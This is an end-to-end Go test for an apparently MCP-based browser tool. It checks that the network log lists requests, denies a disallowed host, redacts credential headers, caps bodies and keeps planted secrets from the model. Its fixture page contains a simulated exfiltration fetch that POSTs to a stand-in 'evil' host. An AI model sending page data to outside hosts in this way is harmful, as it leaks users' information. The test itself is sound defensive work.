package e2e

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	sdk "github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/chromegate/chromegate/internal/testkit"
	"github.com/chromegate/chromegate/mcp"
)

// The secrets the network log page sends and receives; none may reach the
// model.
const (
	netCookieSecret    = "COOKIE-SECRET-4711"
	netAuthSecret      = "AUTH-SECRET-0815"
	netSetCookieSecret = "SETCOOKIE-SECRET-1234"
)

// netlogSite serves, on allowed.test, a page that sets a cookie, fetches
// its own API with an Authorization header (the API answers with a
// Set-Cookie and a body over the 64 KiB cap), loads a small text file,
// and fetches a host the policy denies.
func netlogSite(t *testing.T, evil string) (port string) {
	mux := http.NewServeMux()
	mux.HandleFunc("/page", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Set-Cookie", "sid="+netCookieSecret+"; Path=/")
		fmt.Fprintf(w, `<!doctype html><title>Net</title><p id="s">loading</p><script>
Promise.allSettled([
  fetch('/api', {headers: {Authorization: 'Bearer %s'}}).then(r => r.text()),
  fetch('/small.txt').then(r => r.text()),
  fetch(%q + '/exfil?d=1', {method: 'POST', body: 'exfil'}),
]).then(() => { document.getElementById('s').textContent = 'all settled'; });
</script>`, netAuthSecret, evil)
	})
	mux.HandleFunc("/api", func(w http.ResponseWriter, r *http.Request) {
		if c, err := r.Cookie("sid"); err != nil || c.Value != netCookieSecret {
			http.Error(w, "no cookie", http.StatusUnauthorized)
			return
		}
		if r.Header.Get("Authorization") != "Bearer "+netAuthSecret {
			http.Error(w, "no authorization", http.StatusUnauthorized)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		w.Header().Set("Set-Cookie", "api="+netSetCookieSecret+"; Path=/")
		fmt.Fprintf(w, `{"data":"%s"}`, strings.Repeat("x", 100<<10))
	})
	mux.HandleFunc("/small.txt", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain")
		fmt.Fprint(w, "small allowed body")
	})
	return serveMux(t, mux)
}

type netEntry struct {
	ID         string `json:"id"`
	Method     string `json:"method"`
	URL        string `json:"url"`
	Type       string `json:"type"`
	Status     int    `json:"status"`
	Size       int64  `json:"size"`
	DurationMs int64  `json:"duration_ms"`
	Outcome    string `json:"outcome"`
	Reason     string `json:"reason"`
	Error      string `json:"error"`
}

type netListing struct {
	Total    int            `json:"total"`
	Matched  int            `json:"matched"`
	Outcomes map[string]int `json:"outcomes"`
	Requests []netEntry     `json:"requests"`
}

// rawText is every text content of a result, the blocked note included.
func rawText(res *sdk.CallToolResult) string {
	var b strings.Builder
	for _, c := range res.Content {
		if t, ok := c.(*sdk.TextContent); ok {
			b.WriteString(t.Text)
			b.WriteByte('\n')
		}
	}
	return b.String()
}

// TestNetworkLog: the network log lists a page's allowed requests with
// status, size and timing, and the request the policy denied with the
// policy's reason; credential headers never reach the model; a body comes
// only for an allowed request, capped and fenced as page content.
func TestNetworkLog(t *testing.T) {
	testkit.Backends(t, testkit.CDP, testkit.Ext, testkit.Remote)
	evil := newCountingServer(t, "evil")
	port := netlogSite(t, "http://other.test:"+evil.port)
	s := startServer(t, resolverRules, "--allow-domain=allowed.test")
	var seen strings.Builder // every network tool output, for the secrets check
	call := func(tool string, args map[string]any) string {
		t.Helper()
		res := s.call(tool, args)
		seen.WriteString(rawText(res))
		return resultText(res)
	}

	s.call("navigate", map[string]any{"url": "http://allowed.test:" + port + "/page"})
	s.call("wait_for", map[string]any{"text": "all settled", "timeout_ms": 10000})

	var list netListing
	byPath := map[string]netEntry{}
	for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(100 * time.Millisecond) {
		txt := call("network_requests", nil)
		if _, _, ok := mcp.Unfence(txt); !ok {
			t.Fatalf("the listing is not fenced as page content:\n%s", txt)
		}
		list = netListing{}
		if err := json.Unmarshal([]byte(jsonPart(txt)), &list); err != nil {
			t.Fatalf("listing: %v\n%s", err, txt)
		}
		for _, e := range list.Requests {
			path := e.URL
			if i := strings.Index(path, "://"); i >= 0 {
				path = path[i+3:]
			}
			if i := strings.IndexByte(path, '/'); i >= 0 {
				path = path[i:]
			}
			byPath[path] = e
		}
		if (byPath["/api"].Outcome != "pending" && byPath["/api"].ID != "") || time.Now().After(deadline) {
			break
		}
	}
	t.Logf("listing: %+v", list)

	t.Run("allowed requests have status, size and timing", func(t *testing.T) {
		for _, p := range []string{"/page", "/api", "/small.txt"} {
			e, ok := byPath[p]
			if !ok {
				t.Errorf("%s is not listed", p)
				continue
			}
			if e.Outcome != "allowed" || e.Status != 200 || e.Size <= 0 || e.DurationMs <= 0 && p == "/api" {
				t.Errorf("%s: %+v", p, e)
			}
		}
		if e := byPath["/page"]; e.Type != "document" || e.Method != "GET" {
			t.Errorf("the document: %+v", e)
		}
		if e := byPath["/api"]; e.Type != "fetch" || e.Size < 100<<10 {
			t.Errorf("the API fetch: %+v", e)
		}
	})
	t.Run("the denied request has the policy's reason", func(t *testing.T) {
		e, ok := byPath["/exfil?d=1"]
		if !ok {
			// A proxy tunnel's denial names the origin only.
			e, ok = byPath["/"]
		}
		if !ok || e.Outcome != "denied" || e.Reason == "" || !strings.Contains(e.URL, "other.test") {
			t.Fatalf("the denied fetch: %+v (listing %+v)", e, list)
		}
		t.Logf("denied: %+v", e)
		if n := evil.reached(); n != 0 {
			t.Errorf("the denied host was reached %d times", n)
		}
		txt := call("network_requests", map[string]any{"outcome": "denied"})
		var only netListing
		if err := json.Unmarshal([]byte(jsonPart(txt)), &only); err != nil {
			t.Fatal(err)
		}
		if only.Matched < 1 || len(only.Requests) != only.Matched {
			t.Errorf("outcome filter: %s", txt)
		}
		for _, r := range only.Requests {
			if r.Outcome != "denied" {
				t.Errorf("outcome filter lets through %+v", r)
			}
		}
		txt = call("network_request", map[string]any{"id": e.ID, "include_body": true})
		if !strings.Contains(txt, `"body_note":"no body: the request was denied"`) || strings.Contains(txt, "secret: internal") {
			t.Errorf("a denied request's entry: %s", txt)
		}
	})
	t.Run("filters and paging", func(t *testing.T) {
		txt := call("network_requests", map[string]any{"url": "SMALL.txt"})
		var f netListing
		if err := json.Unmarshal([]byte(jsonPart(txt)), &f); err != nil {
			t.Fatal(err)
		}
		if f.Matched != 1 || len(f.Requests) != 1 || !strings.HasSuffix(f.Requests[0].URL, "/small.txt") {
			t.Errorf("url filter: %s", txt)
		}
		txt = call("network_requests", map[string]any{"limit": 1, "offset": 1})
		var p struct {
			netListing
			Next int `json:"next"`
		}
		if err := json.Unmarshal([]byte(jsonPart(txt)), &p); err != nil {
			t.Fatal(err)
		}
		if len(p.Requests) != 1 || p.Requests[0].ID != list.Requests[1].ID || p.Next != 2 {
			t.Errorf("page 2 of 1: %s", txt)
		}
	})
	t.Run("headers are redacted and bodies capped", func(t *testing.T) {
		txt := call("network_request", map[string]any{"id": byPath["/api"].ID, "include_body": true})
		content, _, ok := mcp.Unfence(txt)
		if !ok {
			t.Fatalf("the entry is not fenced:\n%s", short(txt))
		}
		head, body, _ := strings.Cut(content, "\n")
		var e struct {
			RequestHeaders  []struct{ Name, Value string } `json:"request_headers"`
			ResponseHeaders []struct{ Name, Value string } `json:"response_headers"`
			BodyBytes       int                            `json:"body_bytes"`
			BodyTruncated   bool                           `json:"body_truncated"`
		}
		if err := json.Unmarshal([]byte(head), &e); err != nil {
			t.Fatalf("%v: %s", err, short(head))
		}
		redacted := map[string]bool{}
		for _, h := range append(e.RequestHeaders, e.ResponseHeaders...) {
			if h.Value == "[redacted]" {
				redacted[strings.ToLower(h.Name)] = true
			}
		}
		for _, h := range []string{"authorization", "set-cookie"} {
			if !redacted[h] {
				t.Errorf("%s is not listed as redacted: %s", h, head)
			}
		}
		if !redacted["cookie"] {
			t.Logf("no Cookie header reported (the backend sees provisional headers only): %s", head)
		}
		if !e.BodyTruncated || e.BodyBytes < 100<<10 || len(body) > 64<<10 || !strings.HasPrefix(body, `{"data":"xxx`) {
			t.Errorf("body %d bytes of %d, truncated %v: %s", len(body), e.BodyBytes, e.BodyTruncated, short(body))
		}
		txt = call("network_request", map[string]any{"id": byPath["/small.txt"].ID, "include_body": true})
		if c, _, _ := mcp.Unfence(txt); !strings.HasSuffix(c, "\nsmall allowed body") {
			t.Errorf("small body: %s", txt)
		}
	})
	t.Run("no credential reaches the model", func(t *testing.T) {
		out := seen.String()
		for _, secret := range []string{netCookieSecret, netAuthSecret, netSetCookieSecret} {
			if strings.Contains(out, secret) {
				t.Errorf("%s appears in the network tools' output", secret)
			}
		}
	})
	t.Run("a navigation starts a new log", func(t *testing.T) {
		s.call("navigate", map[string]any{"url": "http://allowed.test:" + port + "/small.txt"})
		txt := call("network_requests", nil)
		var l netListing
		if err := json.Unmarshal([]byte(jsonPart(txt)), &l); err != nil {
			t.Fatal(err)
		}
		if l.Total != 1 || l.Requests[0].Type != "document" {
			t.Errorf("after a navigation: %s", txt)
		}
		txt = call("network_requests", map[string]any{"navigations": 2})
		if err := json.Unmarshal([]byte(jsonPart(txt)), &l); err != nil {
			t.Fatal(err)
		}
		if l.Total < len(list.Requests)+1 {
			t.Errorf("two navigations back: %d requests, want at least %d", l.Total, len(list.Requests)+1)
		}
	})
}
